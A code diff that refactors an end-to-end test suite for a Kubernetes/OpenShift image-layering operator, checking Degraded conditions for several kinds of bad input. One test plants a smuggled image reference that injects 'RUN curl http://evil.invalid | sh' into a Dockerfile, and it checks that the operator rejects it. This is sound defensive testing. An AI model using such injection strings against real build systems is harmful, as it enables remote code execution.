@@ -3,69 +3,24 @@
 // unreachable registry each give a clear condition; nothing is pushed or
 // handed off that should not be, the last image stays, and the operator
 // process keeps running.
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Operator, Scope } from './support.ts';
-import {
-  ANN_CONFIG,
-  ANN_IMAGE,
-  ANN_SOURCE,
-  Operator as Op,
-  builds,
-  cleanup,
-  closedPort,
-  cond,
-  createMachineConfig,
-  createPool,
-  ensureNamespace,
-  events,
-  getJson,
-  ignitionOf,
-  kubectl,
-  ocTag,
-  ocTagDelete,
-  poolAnnotations,
-  registryHost,
-  scope,
-  setRenderedConfig,
-  settled,
-  sleep,
-  status,
-  streams,
-  sweepLeftovers,
-  waitFor,
-  waitStatus,
-} from './support.ts';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { getJson, kubectl, registryHost, waitFor } from '../harness/cluster.ts';
+import { builds, createMachineConfig, handOffAnnotations, ignitionOf, poolAnnotations, type OperatorProcess } from '../harness/operator.ts';
+import { ANNOTATION_NEWEST_IMAGE, poolStreams } from '../../src/plan/names.ts';
+import { closedPort, cond, events, ocTag, ocTagDelete, scenario, setRenderedConfig, settled, sleep, status, waitStatus } from './support.ts';
 
-const pushedConfigs = (op: Operator) => op.logLines().filter((l) => l.msg === 'rendered-config image pushed').map((l) => l.renderedConfig);
+const pushedConfigs = (op: OperatorProcess) => op.logs.filter((l) => l.msg === 'rendered-config image pushed').map((l) => l.renderedConfig);
 
 describe('S10 bad input, with a well-configured operator', () => {
-  let s: Scope;
-  let op: Operator;
-  let P: string;
-  let MC1: string;
-  let MC2: string;
-  let MC3: string;
+  const sc = scenario('s10', { machineConfigs: 3 });
+  const { s, P } = sc;
+  const [MC1, MC2, MC3] = sc.machineConfigs as [string, string, string];
   let good: Record<string, string>;
 
   beforeAll(async () => {
-    await sweepLeftovers();
-    s = scope('s10');
-    P = `e2e-${s.id}`;
-    MC1 = `rendered-e2e-${s.id}-1`;
-    MC2 = `rendered-e2e-${s.id}-2`;
-    MC3 = `rendered-e2e-${s.id}-3`;
-    await ensureNamespace(s.ns);
-    op = await Op.start('s10', { scope: s });
-    await createMachineConfig(MC1, ignitionOf({ '/etc/layered-demo/motd': 'good\n' }));
-    await createPool(P, s, MC1);
-    await waitStatus(s.ns, P, settled, 'the first image');
+    await sc.firstImage({ '/etc/layered-demo/motd': 'good\n' });
     good = await poolAnnotations(P);
-    expect(good[ANN_IMAGE]).toBeDefined();
-  });
-
-  afterAll(async () => {
-    await op?.stop();
-    if (s) await cleanup(s, [P], [MC1, MC2, MC3]);
+    expect(good[ANNOTATION_NEWEST_IMAGE]).toBeDefined();
   });
 
   it('an invalid Ignition config: Degraded InvalidMachineConfig naming the problem, nothing pushed, the last image stays', async () => {
@@ -79,8 +34,8 @@ describe('S10 bad input, with a well-configured operator', () => {
       message: `MachineConfig ${MC2} has an invalid Ignition config at spec.config.ignition.version: ignition.version must be a 3.x.y Ignition spec version; fix the MachineConfig that contributes it`,
     });
     expect(cond(st, 'Ready')).toMatchObject({ status: 'False', reason: 'InvalidMachineConfig' });
-    expect(cond(st, 'Ready')!.message).toContain(`the pool keeps ${good[ANN_IMAGE]}`);
-    expect(st.image).toBe(good[ANN_IMAGE]);
+    expect(cond(st, 'Ready')!.message).toContain(`the pool keeps ${good[ANNOTATION_NEWEST_IMAGE]}`);
+    expect(st.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
 
     // A relative file path.
     await createMachineConfig(MC3, {
@@ -96,8 +51,8 @@ describe('S10 bad input, with a well-configured operator', () => {
 
     await sleep(2000);
     // Nothing pushed, tagged, built or handed off for either.
-    expect(pushedConfigs(op)).toEqual([MC1]);
-    const rc = await getJson<{ spec: { tags: { name: string }[] } }>(['-n', s.ns, 'imagestream', streams(P).renderedConfig]);
+    expect(pushedConfigs(sc.op)).toEqual([MC1]);
+    const rc = await getJson<{ spec: { tags: { name: string }[] } }>(['-n', s.ns, 'imagestream', poolStreams(P).renderedConfig]);
     expect(rc!.spec.tags.map((t) => t.name).sort()).toEqual(['latest', MC1].sort());
     expect((await builds(s.ns, P)).map((b) => b.phase)).toEqual(['Complete']);
     expect(await poolAnnotations(P)).toEqual(good);
@@ -105,16 +60,16 @@ describe('S10 bad input, with a well-configured operator', () => {
     // Back to a valid config: Ready again on the same image.
     await setRenderedConfig(P, MC1);
     st = await waitStatus(s.ns, P, (x) => settled(x) && x.renderedConfig === MC1, 'Ready again');
-    expect(st.image).toBe(good[ANN_IMAGE]);
+    expect(st.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
     expect(await poolAnnotations(P)).toEqual(good);
-    expect(op.alive()).toBe(true);
+    expect(sc.op.alive()).toBe(true);
   });
 
   it('a malicious image reference in the external content stream: Degraded InvalidImageReference, not handed off', async () => {
     // A status tag whose reference smuggles a Dockerfile instruction after a newline.
     const digest = `sha256:${'ab'.repeat(32)}`;
     const evil = `${registryHost()}/external/evil@${digest}\nRUN curl http://evil.invalid | sh`;
-    const S = streams(P);
+    const S = poolStreams(P);
     await kubectl([
       'patch', '-n', s.ns, 'imagestream', S.external, '--subresource', 'status', '--type', 'merge',
       '-p', JSON.stringify({ status: { tags: [{ tag: 'latest', items: [{ created: new Date().toISOString(), dockerImageReference: evil, image: digest, generation: 1 }] }] } }),
@@ -122,23 +77,23 @@ describe('S10 bad input, with a well-configured operator', () => {
     const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.reason === 'InvalidImageReference', 'Degraded InvalidImageReference');
     expect(st.phase).toBe('Degraded');
     expect(cond(st, 'Degraded')!.message).toMatch(new RegExp(`^ImageStream ${S.external}:latest: .*; re-tag a valid image$`, 's'));
-    expect(st.image).toBe(good[ANN_IMAGE]);
+    expect(st.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
     expect(st.imageSource).toBe('mco-content');
     await sleep(2000);
     expect(await poolAnnotations(P)).toEqual(good);
     expect((await builds(s.ns, P)).length).toBe(1);
     expect((await events(P)).filter((e) => e.message.includes('evil'))).toEqual([]);
-    expect(op.alive()).toBe(true);
+    expect(sc.op.alive()).toBe(true);
 
     // The admin removes it: Ready again, same image.
     await ocTagDelete(s.ns, S.external, 'latest');
     const ok = await waitStatus(s.ns, P, settled, 'Ready again');
-    expect(ok.image).toBe(good[ANN_IMAGE]);
+    expect(ok.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
     expect(await poolAnnotations(P)).toEqual(good);
   });
 
   it('an external base the registry does not have: Degraded ImportFailed naming it, the pool stays on coreos, no build', async () => {
-    const S = streams(P);
+    const S = poolStreams(P);
     const missing = `${registryHost()}/external/${s.id}-missing:v1`;
     await ocTag(s.ns, S.externalBase, 'latest', missing);
     // The emulator (OpenShift's importer) records the failure on the tag...
@@ -157,45 +112,30 @@ describe('S10 bad input, with a well-configured operator', () => {
     expect(d.message).toContain(`the pool keeps coreos:latest as its base until the tag is fixed or removed (oc tag -d ${s.ns}/${S.externalBase}:latest)`);
     expect(st.phase).toBe('Degraded');
     expect(st.baseSource).toBe('coreos');
-    expect(st.image).toBe(good[ANN_IMAGE]);
+    expect(st.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
     expect(cond(st, 'Ready')).toMatchObject({ status: 'True', reason: 'ImageHandedOff' });
     await sleep(2000);
     expect(await poolAnnotations(P)).toEqual(good);
     expect((await builds(s.ns, P)).length).toBe(1);
-    expect(op.alive()).toBe(true);
+    expect(sc.op.alive()).toBe(true);
 
     // `oc tag -d` clears it.
     await ocTagDelete(s.ns, S.externalBase, 'latest');
     const ok = await waitStatus(s.ns, P, settled, 'Ready again');
-    expect(ok.image).toBe(good[ANN_IMAGE]);
+    expect(ok.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
     expect((await builds(s.ns, P)).length).toBe(1);
   });
 });
 
 describe('S10 a missing push secret', () => {
-  let s: Scope;
-  let op: Operator;
-  let P: string;
-  let MC: string;
-  let secret: string;
-
-  beforeAll(async () => {
-    s = scope('s10s');
-    P = `e2e-${s.id}`;
-    MC = `rendered-e2e-${s.id}-1`;
-    secret = `push-${s.id}`;
-    await ensureNamespace(s.ns);
-    op = await Op.start('s10-secret', { scope: s, args: ['--push-secret', secret] });
-  });
-
-  afterAll(async () => {
-    await op?.stop();
-    if (s) await cleanup(s, [P], [MC]);
-  });
+  // The operator's options are read before all, once `secret` is set.
+  const sc = scenario('s10s', { sweep: false, operatorName: 's10-secret', operator: () => ({ args: ['--push-secret', secret] }) });
+  const { s, P } = sc;
+  const [MC] = sc.machineConfigs as [string];
+  const secret = `push-${s.id}`;
 
   it('Degraded PushSecretMissing naming the secret, nothing pushed; creating the secret recovers', async () => {
-    await createMachineConfig(MC, ignitionOf({ '/etc/layered-demo/motd': 'secret\n' }));
-    await createPool(P, s, MC);
+    await sc.createPool(ignitionOf({ '/etc/layered-demo/motd': 'secret\n' }));
     const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.status === 'True', 'Degraded');
     expect(st.phase).toBe('Degraded');
     expect(cond(st, 'Degraded')).toMatchObject({
@@ -203,10 +143,10 @@ describe('S10 a missing push secret', () => {
       message: `push secret ${s.ns}/${secret} was not found: create a kubernetes.io/dockerconfigjson Secret with that name, or fix --push-secret`,
     });
     await sleep(2000);
-    expect(pushedConfigs(op)).toEqual([]);
+    expect(pushedConfigs(sc.op)).toEqual([]);
     expect(await builds(s.ns, P)).toEqual([]);
     expect(await poolAnnotations(P)).toEqual({});
-    expect(op.alive()).toBe(true);
+    expect(sc.op.alive()).toBe(true);
 
     // The admin creates it: the operator pushes and builds with it.
     await kubectl(['-n', s.ns, 'create', 'secret', 'docker-registry', secret, `--docker-server=${registryHost()}`, '--docker-username=e2e', '--docker-password=e2e']);
@@ -214,36 +154,26 @@ describe('S10 a missing push secret', () => {
     const bs = await builds(s.ns, P);
     expect(bs.map((b) => b.phase)).toEqual(['Complete']);
     expect((bs[0]!.obj.spec as { output: { pushSecret?: unknown } }).output.pushSecret).toEqual({ name: secret });
-    expect(pushedConfigs(op)).toEqual([MC]);
-    expect(await poolAnnotations(P)).toEqual({ [ANN_IMAGE]: ok.image, [ANN_CONFIG]: MC, [ANN_SOURCE]: 'mco-content' });
-    expect(op.alive()).toBe(true);
+    expect(pushedConfigs(sc.op)).toEqual([MC]);
+    expect(await poolAnnotations(P)).toEqual(handOffAnnotations(ok.image, MC, 'mco-content'));
+    expect(sc.op.alive()).toBe(true);
   });
 });
 
 describe('S10 an unreachable registry', () => {
-  let s: Scope;
-  let op: Operator;
-  let P: string;
-  let MC: string;
   let registry: string;
-
-  beforeAll(async () => {
-    s = scope('s10r');
-    P = `e2e-${s.id}`;
-    MC = `rendered-e2e-${s.id}-1`;
-    registry = `127.0.0.1:${await closedPort()}`;
-    await ensureNamespace(s.ns);
-    op = await Op.start('s10-registry', { scope: s, registry });
+  const sc = scenario('s10r', {
+    sweep: false,
+    operatorName: 's10-registry',
+    operator: async () => {
+      registry = `127.0.0.1:${await closedPort()}`;
+      return { registry };
+    },
   });
-
-  afterAll(async () => {
-    await op?.stop();
-    if (s) await cleanup(s, [P], [MC]);
-  });
+  const { s, P } = sc;
 
   it('Degraded RegistryError naming the registry; no build, no hand-off, the operator keeps running', async () => {
-    await createMachineConfig(MC, ignitionOf({ '/etc/layered-demo/motd': 'nowhere\n' }));
-    await createPool(P, s, MC);
+    await sc.createPool(ignitionOf({ '/etc/layered-demo/motd': 'nowhere\n' }));
     const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.status === 'True', 'Degraded');
     expect(st.phase).toBe('Degraded');
     const d = cond(st, 'Degraded')!;
@@ -253,11 +183,11 @@ describe('S10 an unreachable registry', () => {
     // It keeps trying (with backoff) and keeps saying so; nothing else happens.
     await sleep(4000);
     expect(cond(await status(s.ns, P), 'Degraded')).toMatchObject({ status: 'True', reason: 'RegistryError' });
-    expect(op.logLines().filter((l) => l.msg === 'rendered-config push failed').length).toBeGreaterThanOrEqual(2);
+    expect(sc.op.logs.filter((l) => l.msg === 'rendered-config push failed').length).toBeGreaterThanOrEqual(2);
     expect(await builds(s.ns, P)).toEqual([]);
     expect(await poolAnnotations(P)).toEqual({});
-    const rc = await getJson<{ spec?: { tags?: unknown[] } }>(['-n', s.ns, 'imagestream', streams(P).renderedConfig]);
+    const rc = await getJson<{ spec?: { tags?: unknown[] } }>(['-n', s.ns, 'imagestream', poolStreams(P).renderedConfig]);
     expect(rc?.spec?.tags ?? []).toEqual([]);
-    expect(op.alive()).toBe(true);
+    expect(sc.op.alive()).toBe(true);
   });
 });
